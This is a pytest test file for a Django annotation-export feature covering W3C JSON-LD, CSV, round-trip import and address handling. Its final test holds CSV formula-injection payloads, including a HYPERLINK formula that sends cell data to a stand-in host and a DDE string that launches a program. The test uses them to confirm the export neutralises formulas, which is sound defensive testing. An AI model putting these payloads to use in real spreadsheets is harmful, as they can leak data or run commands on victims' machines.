"""Exports (W3C JSON-LD, CSV, a comparison's JSON), the JSON-LD round trip and the commands."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from coverage_app import annotations as service
from coverage_app.models import Annotation, AnnotationTarget, text_hash
from tests.web.annotation_fixtures import BODY_A, BODY_B

pytestmark = pytest.mark.django_db

QUOTE_A = "We are ready for talks, but not at any price"
PARAPHRASE_B = "they were prepared to negotiate"
SHIPS_A = "40 ships were delayed"


@pytest.fixture
def annotated(author, other, articles, comparison):
    a, b = articles
    linking = service.annotation_create(
        author=author,
        label="misquote",
        note="=SUM(A1) B drops the condition.",
        selections=[
            service.Selection(a.pk, QUOTE_A, BODY_A.index(QUOTE_A)),
            service.Selection(b.pk, PARAPHRASE_B, BODY_B.index(PARAPHRASE_B)),
        ],
        comparison=comparison,
    )
    service.annotation_update(
        user=author,
        annotation_id=linking.pk,
        version=1,
        label="misquote",
        note=linking.note,
        status="confirmed",
    )
    single = service.annotation_create(
        author=other,
        label="numbers",
        selections=[service.Selection(a.pk, SHIPS_A, BODY_A.index(SHIPS_A))],
        comparison=comparison,
    )
    return Annotation.objects.get(pk=linking.pk), single


def export(fmt="jsonld"):
    out = io.StringIO()
    call_command("export_annotations", "--format", fmt, stdout=out)
    return out.getvalue()


def snapshot():
    """What must survive a round trip, independent of primary keys."""
    rows = []
    for annotation in service.with_targets(Annotation.objects.all()):
        targets = sorted(
            (
                t.article.body_hash,
                t.exact,
                t.prefix,
                t.suffix,
                t.start,
                t.end,
                t.text_hash,
                t.orphaned,
            )
            for t in annotation.targets.all()
        )
        rows.append(
            (
                annotation.author.username,
                annotation.label,
                annotation.note,
                annotation.status,
                annotation.created,
                annotation.modified,
                tuple(targets),
            )
        )
    return sorted(rows)


def test_jsonld_export_has_the_w3c_required_fields(annotated):
    data = json.loads(export())
    assert data["@context"][0] == "http://www.w3.org/ns/anno.jsonld"
    assert data["type"] == "AnnotationCollection" and data["total"] == 2
    for item in data["items"]:
        # Required by the W3C Web Annotation Data Model: id, type "Annotation", target.
        assert item["id"] and item["type"] == "Annotation" and item["target"]
        assert item["motivation"] in {"assessing", "linking"}
        assert item["creator"]["type"] == "Person" and item["creator"]["nickname"]
        assert item["created"] and item["modified"]
        for body in item["body"]:
            assert body["type"] == "TextualBody" and body["value"]
            assert body["purpose"] in {"classifying", "commenting"}
        for target in item["target"]:
            assert target["source"]["id"].endswith(
                f"/articles/{target['source']['id'].split('/')[-2]}/"
            )
            types = [s["type"] for s in target["selector"]]
            assert types == ["TextQuoteSelector", "TextPositionSelector"]
            quote, position = target["selector"]
            assert quote["exact"] and isinstance(position["start"], int)
            assert position["end"] - position["start"] == len(quote["exact"])
    linking = next(i for i in data["items"] if i["motivation"] == "linking")
    assert len(linking["target"]) == 2
    assert {t["source"]["parallax:outlet"] for t in linking["target"]} == {
        "Harbour Ledger",
        "Meridian Wire",
    }


def test_jsonld_round_trip_restores_the_same_annotations(annotated, tmp_path):
    before = snapshot()
    path = tmp_path / "annotations.jsonld"
    call_command("export_annotations", "--format", "jsonld", "--output", str(path))
    Annotation.objects.all().delete()
    assert not AnnotationTarget.objects.exists()
    out = io.StringIO()
    call_command("import_annotations", str(path), stdout=out)
    assert "Imported 2 annotation(s), skipped 0." in out.getvalue()
    assert snapshot() == before
    # Importing the same file again adds nothing.
    call_command("import_annotations", str(path), stdout=io.StringIO())
    assert Annotation.objects.count() == 2


def test_import_reanchors_when_the_article_text_changed(annotated, articles):
    a, _ = articles
    data = json.loads(export())
    Annotation.objects.all().delete()
    a.body = "Update: talks resume Friday.\n" + BODY_A.replace(
        f" The port authority said {SHIPS_A}.", ""
    )
    a.body_hash = text_hash(a.body)
    a.save()
    # The article is found by its original URL now that its text (and hash) changed.
    a.url = "https://ledger.invalid/strike"
    a.save()
    for item in data["items"]:
        for target in item["target"]:
            if target["source"]["parallax:outlet"] == "Harbour Ledger":
                target["source"]["parallax:url"] = a.url
                target["source"]["parallax:textHash"] = text_hash(BODY_A)
            else:
                target["source"]["parallax:textHash"] = text_hash(BODY_B)
    report = service.import_jsonld(data)
    assert report.created == 2
    quote = AnnotationTarget.objects.get(article=a, exact=QUOTE_A)
    assert a.body[quote.start : quote.end] == QUOTE_A and not quote.orphaned
    assert AnnotationTarget.objects.get(exact=SHIPS_A).orphaned


def test_import_refuses_a_file_that_is_not_an_export():
    with pytest.raises(service.InvalidAnnotation):
        service.import_jsonld({"hello": "world"})


def test_csv_has_one_row_per_annotation_with_both_spans_and_outlets(annotated):
    rows = list(csv.DictReader(io.StringIO(export("csv"))))
    assert len(rows) == 2
    linking = next(r for r in rows if r["motivation"] == "linking")
    assert (linking["a_outlet"], linking["b_outlet"]) == ("Harbour Ledger", "Meridian Wire")
    assert (linking["a_exact"], linking["b_exact"]) == (QUOTE_A, PARAPHRASE_B)
    assert linking["status"] == "confirmed" and linking["label_name"] == "Misquote or altered quote"
    assert linking["note"].startswith("'=SUM")  # not run as a spreadsheet formula
    single = next(r for r in rows if r["motivation"] == "assessing")
    assert single["a_exact"] == SHIPS_A and single["b_outlet"] == ""


def test_csv_gives_the_comparison_the_address_the_json_ld_gives_it(annotated, comparison):
    rows = list(csv.DictReader(io.StringIO(export("csv"))))
    items = json.loads(export("jsonld"))["items"]
    address = next(i["parallax:comparison"] for i in items if "parallax:comparison" in i)
    linking = next(r for r in rows if r["motivation"] == "linking")
    assert linking["comparison"] == str(comparison.pk)  # kept for sheets that read it
    assert linking["comparison_url"] == address
    assert address.endswith(f"/compare/{comparison.article_a_id}/{comparison.article_b_id}/")


def test_comparison_json_holds_alignment_and_annotations(client, author, annotated, comparison):
    client.force_login(author)
    url = reverse("comparison_export", args=[comparison.article_a_id, comparison.article_b_id])
    response = client.get(url)
    assert response.status_code == 200
    data = response.json()
    assert data["comparison"]["alignment"] == comparison.result
    assert data["comparison"]["a"]["outlet"] == "Harbour Ledger"
    assert data["annotations"]["total"] == 2


def test_web_exports_download_with_their_types(client, author, annotated):
    client.force_login(author)
    jsonld = client.get(reverse("annotation_export", args=["jsonld"]))
    assert jsonld["Content-Type"] == "application/ld+json"
    assert json.loads(jsonld.content)["total"] == 2
    csv_response = client.get(reverse("annotation_export", args=["csv"]), {"label": "numbers"})
    assert csv_response["Content-Type"].startswith("text/csv")
    assert len(list(csv.reader(io.StringIO(csv_response.content.decode())))) == 2
    assert client.get(reverse("annotation_export", args=["xml"])).status_code == 404


def test_demo_annotations_load_once_and_one_links_two_articles(django_user_model):
    from coverage_app.ingest import queueing
    from coverage_app.management.commands.load_demo import DEMO_DIR

    user = django_user_model.objects.create_user("demo")
    for path in sorted(DEMO_DIR.glob("*.txt")):
        queueing.article_from_demo(path, user=user)
    assert service.load_demo_annotations(user) == len(service.DEMO_ANNOTATIONS)
    assert service.load_demo_annotations(user) == 0
    linking = [a for a in Annotation.objects.all() if service.motivation(a) == "linking"]
    assert linking and all(a.targets.count() == 2 for a in linking)


def test_every_id_in_the_export_is_absolute_under_the_site_url_and_its_page_answers(
    annotated, client, author, settings
):
    settings.PARALLAX_SITE_URL = "https://parallax.example.org"
    data = json.loads(export())
    ids = [data["id"]]
    for item in data["items"]:
        ids += [item["id"], item["creator"]["id"], item["parallax:comparison"]]
        ids += [target["source"]["id"] for target in item["target"]]
    assert all(i.startswith("https://parallax.example.org/") for i in ids), ids
    client.force_login(author)
    for iri in set(ids):
        path = iri.removeprefix("https://parallax.example.org")
        assert client.get(path).status_code == 200, iri


def test_command_line_ids_default_to_the_local_site_and_base_url_overrides(annotated):
    data = json.loads(export())
    assert data["items"][0]["id"].startswith("http://127.0.0.1:8000/annotations/")
    out = io.StringIO()
    call_command("export_annotations", "--base-url", "https://mirror.example.org/", stdout=out)
    creator = json.loads(out.getvalue())["items"][0]["creator"]
    assert creator["id"] == f"https://mirror.example.org/people/{creator['nickname']}/"


def test_a_page_export_without_a_site_url_uses_the_address_it_was_asked_on(
    annotated, client, author
):
    client.force_login(author)
    response = client.get(reverse("annotation_export", args=["jsonld"]))
    item = json.loads(response.content)["items"][0]
    assert item["id"].startswith("http://testserver/annotations/")


def test_exports_give_an_untitled_articles_display_title_not_its_file_name(
    annotated, articles, client, author
):
    a, _ = articles
    a.title, a.source_name = "", "003_invented_upload.txt"
    a.save()
    expected = a.display_title
    assert expected.startswith("Harbour Ledger staff") and "003_" not in expected
    sources = [t["source"] for i in json.loads(export())["items"] for t in i["target"]]
    assert {s["title"] for s in sources if s["parallax:outlet"] == "Harbour Ledger"} == {expected}
    rows = list(csv.DictReader(io.StringIO(export("csv"))))
    assert {r["a_title"] for r in rows} == {expected}
    client.force_login(author)
    page = client.get(a.get_absolute_url()).content.decode()
    assert f"<h1>{expected}</h1>" in page  # what the article page calls it


def test_a_persons_page_lists_only_their_annotations_and_an_unknown_person_is_404(
    annotated, client, author, other
):
    client.force_login(author)
    response = client.get(reverse("person_detail", args=[other.username]))
    html = response.content.decode()
    assert response.status_code == 200
    assert f"Annotations by {other.username}" in html and "1 annotation<" in html
    assert f"?author={other.username}" in html  # its export links export theirs
    assert f'href="/people/{other.username}/"' in html  # the card names its author
    assert client.get(reverse("person_detail", args=["nobody-here"])).status_code == 404


FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
}


def test_no_csv_cell_can_start_a_formula_whatever_text_field_carries_it(django_user_model):
    """Outlet, title, note, author and the selected text are all people's text; none of them
    may reach a spreadsheet as a formula, and each still reads as what was typed."""
    from tests.web.annotation_fixtures import make_article

    author = django_user_model.objects.create_user("@sheet-author", password="a-long-password")
    bodies = []
    for name, formula in FORMULAS.items():
        body = f"{formula} was written in a council notice about the ferry timetable."
        article = make_article(body, formula, formula)
        article.outlet.name = formula
        article.outlet.save()
        bodies.append((name, formula, article))
    for _name, formula, article in bodies:
        service.annotation_create(
            author=author,
            label="other",
            note=formula,
            selections=[service.Selection(article.pk, formula, 0)],
        )
    text = export("csv")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    records = list(csv.DictReader(io.StringIO(text)))
    typed = set(FORMULAS.values()) | {formula.strip() for formula in FORMULAS.values()}
    for record in records:
        for column in ("note", "a_outlet", "a_title", "a_exact"):
            assert record[column].startswith("'") and record[column][1:] in typed, column
        assert record["author"] == "'@sheet-author"
